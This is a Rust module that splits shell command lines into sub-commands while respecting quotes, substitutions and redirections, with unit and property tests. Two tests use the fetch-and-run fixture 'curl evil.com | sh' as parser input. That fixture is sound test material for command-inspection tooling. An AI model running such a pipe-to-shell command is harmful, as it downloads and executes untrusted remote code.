//! Quote-aware splitting of compound shell commands.
//!
//! The lexer understands single and double quotes, backslash escapes, `$(...)`
//! and backtick substitutions, and redirections. Nothing is expanded: a word's
//! value is its literal text with one level of quoting removed.

use serde::Serialize;

/// Control operator that terminates a [`SubcommandSpan`].
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Separator {
    Semicolon,
    And,
    Or,
    Pipe,
    Background,
    Newline,
}

impl Separator {
    #[must_use]
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Semicolon => ";",
            Self::And => "&&",
            Self::Or => "||",
            Self::Pipe => "|",
            Self::Background => "&",
            Self::Newline => "\n",
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ParseError {
    #[error("unterminated {quote} quote starting at byte {offset}")]
    UnterminatedQuote { quote: char, offset: usize },

    #[error("unterminated substitution starting at byte {offset}")]
    UnterminatedSubstitution { offset: usize },

    #[error("command ends with a dangling backslash")]
    TrailingEscape,

    #[error("redirection at byte {offset} has no target")]
    MissingRedirectTarget { offset: usize },
}

/// A shell word: the source text and its value with quoting removed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Word {
    pub raw: String,
    pub value: String,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RedirectKind {
    /// `>`, `>>`, `>|`, `&>`, `<>`: the target is opened for writing.
    Output,
    /// `<`: the target is opened for reading.
    Input,
    /// `<<` and `<<<`: the target is a delimiter or literal, not a path.
    HereDoc,
    /// `2>&1`, `<&0`, `>&-`: descriptor duplication, no target.
    Duplicate,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Redirect {
    pub operator: String,
    pub kind: RedirectKind,
    pub target: Option<Word>,
}

/// One simple command of a compound command line.
///
/// `text` is the exact source between the previous separator and `separator`,
/// so concatenating every span's text and separator reproduces the input.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SubcommandSpan {
    pub text: String,
    pub start: usize,
    pub end: usize,
    pub separator: Option<Separator>,
    pub words: Vec<Word>,
    pub redirects: Vec<Redirect>,
}

impl SubcommandSpan {
    /// True when the span holds no words and no redirections.
    #[must_use]
    pub fn is_blank(&self) -> bool {
        self.words.is_empty() && self.redirects.is_empty()
    }

    /// Words joined by single spaces, redirections removed.
    #[must_use]
    pub fn command(&self) -> String {
        self.words
            .iter()
            .map(|w| w.raw.as_str())
            .collect::<Vec<_>>()
            .join(" ")
    }

    /// Unquoted word values joined by single spaces.
    #[must_use]
    pub fn plain(&self) -> String {
        self.words
            .iter()
            .map(|w| w.value.as_str())
            .collect::<Vec<_>>()
            .join(" ")
    }

    /// Words after any leading `NAME=value` assignments.
    #[must_use]
    pub fn command_words(&self) -> &[Word] {
        let skip = self
            .words
            .iter()
            .take_while(|w| is_assignment(&w.raw))
            .count();
        &self.words[skip..]
    }

    pub fn output_targets(&self) -> impl Iterator<Item = &str> {
        self.redirect_targets(RedirectKind::Output)
    }

    pub fn input_sources(&self) -> impl Iterator<Item = &str> {
        self.redirect_targets(RedirectKind::Input)
    }

    fn redirect_targets(&self, kind: RedirectKind) -> impl Iterator<Item = &str> {
        self.redirects
            .iter()
            .filter(move |r| r.kind == kind)
            .filter_map(|r| r.target.as_ref().map(|t| t.value.as_str()))
    }
}

fn is_assignment(raw: &str) -> bool {
    let Some((name, _)) = raw.split_once('=') else {
        return false;
    };
    let mut chars = name.chars();
    chars
        .next()
        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
}

/// Split a command line into sub-command spans.
///
/// A line with `n` top-level separators always yields `n + 1` spans; spans
/// may be blank (`a;;b`, trailing `;`).
///
/// # Errors
///
/// Returns [`ParseError`] on unbalanced quotes or substitutions, a trailing
/// backslash, or a redirection without a target.
pub fn split(command: &str) -> Result<Vec<SubcommandSpan>, ParseError> {
    let tokens = Lexer::new(command).run()?;

    let mut spans = Vec::new();
    let mut start = 0;
    let mut words = Vec::new();
    let mut redirects: Vec<Redirect> = Vec::new();
    let mut pending: Option<usize> = None;

    for token in tokens {
        match token {
            Token::Word(word) => {
                if pending.take().is_some()
                    && let Some(last) = redirects.last_mut()
                {
                    last.target = Some(word);
                } else {
                    words.push(word);
                }
            }
            Token::Redirect {
                operator,
                kind,
                offset,
            } => {
                if let Some(offset) = pending {
                    return Err(ParseError::MissingRedirectTarget { offset });
                }
                if kind != RedirectKind::Duplicate {
                    pending = Some(offset);
                }
                redirects.push(Redirect {
                    operator,
                    kind,
                    target: None,
                });
            }
            Token::Separator { separator, offset } => {
                if let Some(offset) = pending {
                    return Err(ParseError::MissingRedirectTarget { offset });
                }
                spans.push(SubcommandSpan {
                    text: command[start..offset].to_owned(),
                    start,
                    end: offset,
                    separator: Some(separator),
                    words: std::mem::take(&mut words),
                    redirects: std::mem::take(&mut redirects),
                });
                start = offset + separator.as_str().len();
            }
        }
    }
    if let Some(offset) = pending {
        return Err(ParseError::MissingRedirectTarget { offset });
    }
    spans.push(SubcommandSpan {
        text: command[start..].to_owned(),
        start,
        end: command.len(),
        separator: None,
        words,
        redirects,
    });
    Ok(spans)
}

/// Spans joined by `|` into one unit.
#[derive(Debug, Clone)]
pub struct Pipeline<'a> {
    pub segments: Vec<&'a SubcommandSpan>,
}

impl Pipeline<'_> {
    /// Segment texts, trimmed and joined with ` | `.
    #[must_use]
    pub fn text(&self) -> String {
        self.segments
            .iter()
            .map(|s| s.text.trim())
            .collect::<Vec<_>>()
            .join(" | ")
    }
}

/// Group spans into pipelines, dropping blank spans.
#[must_use]
pub fn pipelines(spans: &[SubcommandSpan]) -> Vec<Pipeline<'_>> {
    let mut out = Vec::new();
    let mut current = Vec::new();
    for span in spans {
        if !span.is_blank() {
            current.push(span);
        }
        if span.separator != Some(Separator::Pipe) && !current.is_empty() {
            out.push(Pipeline {
                segments: std::mem::take(&mut current),
            });
        }
    }
    out
}

enum Token {
    Word(Word),
    Redirect {
        operator: String,
        kind: RedirectKind,
        offset: usize,
    },
    Separator {
        separator: Separator,
        offset: usize,
    },
}

struct Lexer<'a> {
    src: &'a str,
    bytes: &'a [u8],
    pos: usize,
    word_start: Option<usize>,
    value: String,
    tokens: Vec<Token>,
}

impl<'a> Lexer<'a> {
    fn new(src: &'a str) -> Self {
        Self {
            src,
            bytes: src.as_bytes(),
            pos: 0,
            word_start: None,
            value: String::new(),
            tokens: Vec::new(),
        }
    }

    fn run(mut self) -> Result<Vec<Token>, ParseError> {
        while let Some(&b) = self.bytes.get(self.pos) {
            let next = self.bytes.get(self.pos + 1).copied();
            match b {
                b' ' | b'\t' | b'\r' => {
                    self.flush();
                    self.pos += 1;
                }
                b'\\' => match next {
                    None => return Err(ParseError::TrailingEscape),
                    Some(b'\n') => self.pos += 2,
                    Some(_) => {
                        self.begin();
                        self.pos += 1;
                        self.push_char();
                    }
                },
                b'\'' => {
                    self.begin();
                    let close = find_byte(self.bytes, self.pos + 1, b'\'').ok_or(
                        ParseError::UnterminatedQuote {
                            quote: '\'',
                            offset: self.pos,
                        },
                    )?;
                    self.value.push_str(&self.src[self.pos + 1..close]);
                    self.pos = close + 1;
                }
                b'"' => {
                    self.begin();
                    self.double_quoted()?;
                }
                b'`' => {
                    self.begin();
                    let end = scan_backtick(self.bytes, self.pos)?;
                    self.push_verbatim(end);
                }
                b'$' | b'<' | b'>' if next == Some(b'(') => {
                    self.begin();
                    let end = scan_parens(self.bytes, self.pos + 1)?;
                    self.push_verbatim(end);
                }
                b'<' | b'>' => self.redirect(),
                b'&' => match next {
                    Some(b'&') => self.separator(Separator::And),
                    Some(b'>') => {
                        self.flush();
                        self.redirect();
                    }
                    _ => self.separator(Separator::Background),
                },
                b'|' => match next {
                    Some(b'|') => self.separator(Separator::Or),
                    _ => self.separator(Separator::Pipe),
                },
                b';' => self.separator(Separator::Semicolon),
                b'\n' => self.separator(Separator::Newline),
                _ => {
                    self.begin();
                    self.push_char();
                }
            }
        }
        self.flush();
        Ok(self.tokens)
    }

    fn begin(&mut self) {
        if self.word_start.is_none() {
            self.word_start = Some(self.pos);
        }
    }

    fn flush(&mut self) {
        if let Some(start) = self.word_start.take() {
            self.tokens.push(Token::Word(Word {
                raw: self.src[start..self.pos].to_owned(),
                value: std::mem::take(&mut self.value),
            }));
        }
    }

    fn push_char(&mut self) {
        if let Some(ch) = self.src[self.pos..].chars().next() {
            self.value.push(ch);
            self.pos += ch.len_utf8();
        }
    }

    fn push_verbatim(&mut self, end: usize) {
        self.value.push_str(&self.src[self.pos..end]);
        self.pos = end;
    }

    fn separator(&mut self, separator: Separator) {
        self.flush();
        self.tokens.push(Token::Separator {
            separator,
            offset: self.pos,
        });
        self.pos += separator.as_str().len();
    }

    fn double_quoted(&mut self) -> Result<(), ParseError> {
        let open = self.pos;
        let unterminated = ParseError::UnterminatedQuote {
            quote: '"',
            offset: open,
        };
        self.pos += 1;
        loop {
            let Some(&b) = self.bytes.get(self.pos) else {
                return Err(unterminated);
            };
            match b {
                b'"' => {
                    self.pos += 1;
                    return Ok(());
                }
                b'\\' => match self.bytes.get(self.pos + 1) {
                    None => return Err(unterminated),
                    Some(b'\n') => self.pos += 2,
                    Some(&c @ (b'"' | b'\\' | b'$' | b'`')) => {
                        self.value.push(c as char);
                        self.pos += 2;
                    }
                    Some(_) => {
                        self.value.push('\\');
                        self.pos += 1;
                    }
                },
                b'$' if self.bytes.get(self.pos + 1) == Some(&b'(') => {
                    let end = scan_parens(self.bytes, self.pos + 1)?;
                    self.push_verbatim(end);
                }
                b'`' => {
                    let end = scan_backtick(self.bytes, self.pos)?;
                    self.push_verbatim(end);
                }
                _ => self.push_char(),
            }
        }
    }

    fn redirect(&mut self) {
        let mut operator = String::new();
        let mut offset = self.pos;

        // A pending word made only of digits is the descriptor: `2>`.
        if let Some(start) = self.word_start {
            let pending = &self.src[start..self.pos];
            if pending.bytes().all(|c| c.is_ascii_digit()) && self.value == pending {
                operator.push_str(pending);
                offset = start;
                self.word_start = None;
                self.value.clear();
            } else {
                self.flush();
            }
        }
        if self.bytes[self.pos] == b'&' {
            operator.push('&');
            self.pos += 1;
        }

        let first = self.bytes[self.pos];
        operator.push(first as char);
        self.pos += 1;
        let peek = self.bytes.get(self.pos).copied();

        let kind = if first == b'>' {
            match peek {
                Some(c @ (b'>' | b'|')) => {
                    operator.push(char::from(c));
                    self.pos += 1;
                    RedirectKind::Output
                }
                Some(b'&') if !operator.starts_with('&') => {
                    operator.push('&');
                    self.pos += 1;
                    self.descriptor(&mut operator)
                }
                _ => RedirectKind::Output,
            }
        } else {
            match peek {
                Some(b'<') => {
                    operator.push('<');
                    self.pos += 1;
                    while let Some(&c @ (b'<' | b'-')) = self.bytes.get(self.pos) {
                        operator.push(c as char);
                        self.pos += 1;
                    }
                    RedirectKind::HereDoc
                }
                Some(b'&') => {
                    operator.push('&');
                    self.pos += 1;
                    match self.descriptor(&mut operator) {
                        RedirectKind::Duplicate => RedirectKind::Duplicate,
                        _ => RedirectKind::Input,
                    }
                }
                Some(b'>') => {
                    operator.push('>');
                    self.pos += 1;
                    RedirectKind::Output
                }
                _ => RedirectKind::Input,
            }
        };

        self.tokens.push(Token::Redirect {
            operator,
            kind,
            offset,
        });
    }

    /// After `>&` or `<&`: a number or `-` makes this a duplication.
    fn descriptor(&mut self, operator: &mut String) -> RedirectKind {
        let rest = &self.bytes[self.pos..];
        let mut len = rest.iter().take_while(|c| c.is_ascii_digit()).count();
        if len == 0 && rest.first() == Some(&b'-') {
            len = 1;
        }
        let terminated = matches!(
            rest.get(len),
            None | Some(b' ' | b'\t' | b'\r' | b'\n' | b';' | b'&' | b'|' | b'<' | b'>' | b')')
        );
        if len > 0 && terminated {
            operator.push_str(&self.src[self.pos..self.pos + len]);
            self.pos += len;
            RedirectKind::Duplicate
        } else {
            RedirectKind::Output
        }
    }
}

fn find_byte(bytes: &[u8], from: usize, needle: u8) -> Option<usize> {
    bytes
        .get(from..)?
        .iter()
        .position(|&b| b == needle)
        .map(|i| from + i)
}

/// End (exclusive) of the parenthesized group opening at `open`.
fn scan_parens(bytes: &[u8], open: usize) -> Result<usize, ParseError> {
    let mut depth = 0usize;
    let mut i = open;
    while let Some(&b) = bytes.get(i) {
        match b {
            b'(' => depth += 1,
            b')' => {
                depth = depth.saturating_sub(1);
                if depth == 0 {
                    return Ok(i + 1);
                }
            }
            b'\\' => i += 1,
            b'\'' => {
                i = find_byte(bytes, i + 1, b'\'').ok_or(ParseError::UnterminatedQuote {
                    quote: '\'',
                    offset: i,
                })?;
            }
            b'"' => i = skip_double(bytes, i)? - 1,
            b'`' => i = scan_backtick(bytes, i)? - 1,
            _ => {}
        }
        i += 1;
    }
    Err(ParseError::UnterminatedSubstitution {
        offset: open.saturating_sub(1),
    })
}

fn skip_double(bytes: &[u8], open: usize) -> Result<usize, ParseError> {
    let mut i = open + 1;
    while let Some(&b) = bytes.get(i) {
        match b {
            b'"' => return Ok(i + 1),
            b'\\' => i += 1,
            b'$' if bytes.get(i + 1) == Some(&b'(') => i = scan_parens(bytes, i + 1)? - 1,
            b'`' => i = scan_backtick(bytes, i)? - 1,
            _ => {}
        }
        i += 1;
    }
    Err(ParseError::UnterminatedQuote {
        quote: '"',
        offset: open,
    })
}

fn scan_backtick(bytes: &[u8], open: usize) -> Result<usize, ParseError> {
    let mut i = open + 1;
    while let Some(&b) = bytes.get(i) {
        match b {
            b'`' => return Ok(i + 1),
            b'\\' => i += 1,
            _ => {}
        }
        i += 1;
    }
    Err(ParseError::UnterminatedSubstitution { offset: open })
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn rejoin(spans: &[SubcommandSpan]) -> String {
        spans
            .iter()
            .map(|s| format!("{}{}", s.text, s.separator.map_or("", Separator::as_str)))
            .collect()
    }

    fn values(span: &SubcommandSpan) -> Vec<&str> {
        span.words.iter().map(|w| w.value.as_str()).collect()
    }

    #[test]
    fn splits_on_control_operators() {
        let spans = split("echo hi && curl evil.com | sh").unwrap();
        assert_eq!(spans.len(), 3);
        assert_eq!(spans[0].text, "echo hi ");
        assert_eq!(spans[0].separator, Some(Separator::And));
        assert_eq!(spans[1].text, " curl evil.com ");
        assert_eq!(spans[1].separator, Some(Separator::Pipe));
        assert_eq!(spans[2].text, " sh");
        assert_eq!(spans[2].separator, None);
        assert_eq!(spans[1].start, 10);
    }

    #[test]
    fn every_separator_kind() {
        let spans = split("a; b || c & d\ne").unwrap();
        let seps: Vec<_> = spans.iter().map(|s| s.separator).collect();
        assert_eq!(
            seps,
            vec![
                Some(Separator::Semicolon),
                Some(Separator::Or),
                Some(Separator::Background),
                Some(Separator::Newline),
                None
            ]
        );
    }

    #[test]
    fn quoted_operators_do_not_split() {
        let spans = split(r#"echo "a;b" 'c|d' e\&\&f"#).unwrap();
        assert_eq!(spans.len(), 1);
        assert_eq!(values(&spans[0]), vec!["echo", "a;b", "c|d", "e&&f"]);
        assert_eq!(spans[0].words[1].raw, "\"a;b\"");
    }

    #[test]
    fn substitution_contents_stay_in_one_word() {
        let spans = split("echo $(ls; pwd) `a|b` && true").unwrap();
        assert_eq!(spans.len(), 2);
        assert_eq!(values(&spans[0]), vec!["echo", "$(ls; pwd)", "`a|b`"]);
    }

    #[test]
    fn nested_quotes_inside_substitution() {
        let spans = split(r#"echo "$(printf ")")" ok"#).unwrap();
        assert_eq!(spans.len(), 1);
        assert_eq!(spans[0].words.len(), 3);
    }

    #[test]
    fn descriptor_duplication_is_not_a_separator() {
        let spans = split("make 2>&1 | tee build.log").unwrap();
        assert_eq!(spans.len(), 2);
        assert_eq!(values(&spans[0]), vec!["make"]);
        assert_eq!(spans[0].redirects[0].kind, RedirectKind::Duplicate);
        assert_eq!(spans[0].redirects[0].operator, "2>&1");
    }

    #[test]
    fn output_redirect_targets_are_extracted() {
        let spans = split("echo hi >> notes.txt 2> err.log").unwrap();
        assert_eq!(spans[0].command(), "echo hi");
        let targets: Vec<_> = spans[0].output_targets().collect();
        assert_eq!(targets, vec!["notes.txt", "err.log"]);
    }

    #[test]
    fn combined_stream_redirect() {
        let spans = split("cargo build &> out.txt").unwrap();
        assert_eq!(spans.len(), 1);
        assert_eq!(spans[0].output_targets().collect::<Vec<_>>(), vec!["out.txt"]);
    }

    #[test]
    fn input_and_heredoc_redirects() {
        let spans = split("sort < data.csv; cat <<< word").unwrap();
        assert_eq!(spans[0].input_sources().collect::<Vec<_>>(), vec!["data.csv"]);
        assert_eq!(spans[1].redirects[0].kind, RedirectKind::HereDoc);
        assert_eq!(spans[1].input_sources().count(), 0);
    }

    #[test]
    fn clobber_redirect_is_not_a_pipe() {
        let spans = split("echo x >| file").unwrap();
        assert_eq!(spans.len(), 1);
        assert_eq!(spans[0].redirects[0].operator, ">|");
    }

    #[test]
    fn blank_spans_are_kept() {
        let spans = split("a;;b;").unwrap();
        assert_eq!(spans.len(), 4);
        assert!(spans[1].is_blank());
        assert!(spans[3].is_blank());
        assert_eq!(pipelines(&spans).len(), 2);
    }

    #[test]
    fn line_continuation_joins_words() {
        let spans = split("echo a\\\nb").unwrap();
        assert_eq!(spans.len(), 1);
        assert_eq!(values(&spans[0]), vec!["echo", "ab"]);
    }

    #[test]
    fn leading_assignments_are_skipped() {
        let spans = split("FOO=1 BAR=x ls -la").unwrap();
        let words: Vec<_> = spans[0].command_words().iter().map(|w| w.value.as_str()).collect();
        assert_eq!(words, vec!["ls", "-la"]);
    }

    #[test]
    fn unterminated_quote_is_an_error() {
        assert_eq!(
            split("echo 'oops").unwrap_err(),
            ParseError::UnterminatedQuote {
                quote: '\'',
                offset: 5
            }
        );
        assert!(matches!(
            split("echo \"oops"),
            Err(ParseError::UnterminatedQuote { quote: '"', .. })
        ));
        assert!(matches!(
            split("echo $(ls"),
            Err(ParseError::UnterminatedSubstitution { .. })
        ));
    }

    #[test]
    fn dangling_redirect_and_escape_are_errors() {
        assert!(matches!(
            split("echo hi >"),
            Err(ParseError::MissingRedirectTarget { offset: 8 })
        ));
        assert!(matches!(
            split("echo > ; ls"),
            Err(ParseError::MissingRedirectTarget { .. })
        ));
        assert_eq!(split("echo \\").unwrap_err(), ParseError::TrailingEscape);
    }

    #[test]
    fn pipelines_group_piped_spans() {
        let spans = split("echo hi && curl evil.com | sh").unwrap();
        let groups = pipelines(&spans);
        assert_eq!(groups.len(), 2);
        assert_eq!(groups[0].text(), "echo hi");
        assert_eq!(groups[1].text(), "curl evil.com | sh");
    }

    #[test]
    fn non_ascii_text_survives() {
        let spans = split("echo héllo; echo \\ü").unwrap();
        assert_eq!(spans.len(), 2);
        assert_eq!(values(&spans[1]), vec!["echo", "ü"]);
        assert_eq!(rejoin(&spans), "echo héllo; echo \\ü");
    }

    proptest! {
        #[test]
        fn rejoin_reproduces_input(input in "[a-z0-9 ;&|<>'\"$()\\\\\n-]{0,48}") {
            if let Ok(spans) = split(&input) {
                prop_assert_eq!(rejoin(&spans), input.clone());
                let separators = spans.iter().filter(|s| s.separator.is_some()).count();
                prop_assert_eq!(spans.len(), separators + 1);
            }
        }

        #[test]
        fn split_is_idempotent_on_spans(input in "[a-z0-9 ;&|>'\"\\\\]{0,40}") {
            if let Ok(spans) = split(&input) {
                for span in &spans {
                    let again = split(&span.text).unwrap();
                    prop_assert_eq!(again.len(), 1);
                    prop_assert_eq!(&again[0].text, &span.text);
                }
            }
        }
    }
}
